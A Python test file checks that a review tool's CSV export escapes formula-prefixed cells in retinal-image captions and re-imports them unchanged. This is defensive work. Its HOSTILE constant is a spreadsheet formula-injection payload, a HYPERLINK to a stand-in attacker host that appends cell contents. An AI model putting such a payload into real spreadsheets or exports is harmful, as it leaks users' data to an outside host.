"""CSV exports never hand a spreadsheet a formula: text cells with =, +, -, @, tab or CR are escaped."""

from __future__ import annotations

import csv
import importlib.util
from pathlib import Path

import pytest

from foundation.spreadsheet import FORMULA_PREFIXES, neutralise_cell, restore_cell

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_formula_prefix_is_escaped_and_restored(prefix: str) -> None:
    text = f"{prefix}SUM(A1:A9)"
    assert neutralise_cell(text) == "'" + text
    assert restore_cell(neutralise_cell(text)) == text
    assert neutralise_cell("Central retinal vein occlusion.") == "Central retinal vein occlusion."
    assert neutralise_cell(3) == 3
    assert restore_cell("'quoted on purpose") == "'quoted on purpose"


def _load_review_test_helpers():
    spec = importlib.util.spec_from_file_location(
        "review_store_cases", Path(__file__).resolve().parents[1] / "curation" / "test_review_store.py"
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_review_export_escapes_an_edited_formula_caption_and_reimports_it_unchanged(tmp_path: Path) -> None:
    """Problem 8: `review export` wrote an edited caption =HYPERLINK(...) into the CSV unescaped."""
    from curation.review_store import ReviewStore

    cases = _load_review_test_helpers()
    store = ReviewStore(tmp_path / "review.sqlite")
    store.register_build("b1", "mm-retinal", [cases.make_pair(0), cases.make_pair(1, caption_en="-3 D myopia.")])
    keys = [item.item_key for item in store.queue("b1")]
    store.decide(keys[0], "edit_caption", "ann", caption_en=HOSTILE, caption_zh="@图")
    sheet = tmp_path / "sheet.csv"
    store.export_csv(sheet, "b1")
    with sheet.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_PREFIXES), (column, value)
    assert rows[0]["caption_en"] == "'" + HOSTILE and rows[0]["caption_zh"] == "'@图"
    assert rows[1]["proposed_caption_en"] == "'-3 D myopia."
    report = store.import_csv(sheet, reviewer="dee")
    assert (report.applied, report.errors) == (0, [])  # nothing changed: the escape is not an edit
    assert store.item(keys[0]).resolution.caption_en == HOSTILE
